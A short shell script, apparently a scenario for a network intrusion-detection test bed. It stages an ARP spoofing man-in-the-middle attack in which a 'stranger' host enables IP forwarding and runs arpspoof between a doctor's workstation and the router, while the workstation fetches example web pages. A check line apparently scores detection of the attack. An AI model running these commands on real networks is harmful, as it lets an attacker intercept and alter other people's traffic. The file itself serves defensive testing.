# Attack: a stranger tells Læge 1 that it is the router, and the router that it is Læge 1, for 75 seconds, and passes the traffic on.
NEEDS=stranger
CHECK="arp>=80"
play() {
    web doctor-1 https://journal.laegesky.example/lille.json
    on stranger sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
    serve stranger spoof-1 arpspoof -i eth0 -t 10.20.30.12 10.20.30.1
    SPOOFERS=$!
    serve stranger spoof-2 arpspoof -i eth0 -t 10.20.30.1 10.20.30.12
    SPOOFERS="$SPOOFERS $!"
    for round in 1 2 3 4 5; do
        sleep 14
        web doctor-1 https://journal.laegesky.example/lille.json http://www.vejret.example/index.html
    done
    sleep 5
    # shellcheck disable=SC2086
    kill -INT $SPOOFERS
    sleep 6 # arpspoof puts the true addresses back
}
